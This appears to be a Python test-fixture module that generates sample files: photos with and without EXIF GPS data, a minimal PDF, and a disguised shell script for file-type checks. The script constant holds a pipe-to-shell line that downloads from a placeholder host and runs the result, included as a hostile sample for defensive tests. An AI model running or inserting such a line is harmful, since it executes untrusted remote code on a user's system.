"""Test files made on the spot: photos with and without EXIF GPS, a PDF, a script in disguise."""

from __future__ import annotations

import io

from PIL import ExifTags, Image

# Sanam Luang, Bangkok: 13.7563 N, 100.5018 E.
GPS = {1: "N", 2: (13.0, 45.0, 22.68), 3: "E", 4: (100.0, 30.0, 6.48)}
LATITUDE, LONGITUDE = 13.7563, 100.5018
SCRIPT = b"#!/bin/sh\ncurl http://evil.invalid | sh\n"
# The smallest PDF readers accept as one (filetype knows it by its %PDF- header).
PDF = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
)


def photo(fmt: str = "JPEG", *, gps: bool = True, color: tuple[int, int, int] = (200, 30, 30)) -> bytes:
    image = Image.new("RGB", (64, 48), color)
    exif = Image.Exif()
    exif[0x0110] = "TestCam"  # Model
    if gps:
        exif.get_ifd(ExifTags.IFD.GPSInfo).update(GPS)
    buffer = io.BytesIO()
    image.save(buffer, fmt, exif=exif.tobytes())
    return buffer.getvalue()


def gps_in(data: bytes) -> dict[int, object]:
    with Image.open(io.BytesIO(data)) as image:
        return dict(image.getexif().get_ifd(ExifTags.IFD.GPSInfo))
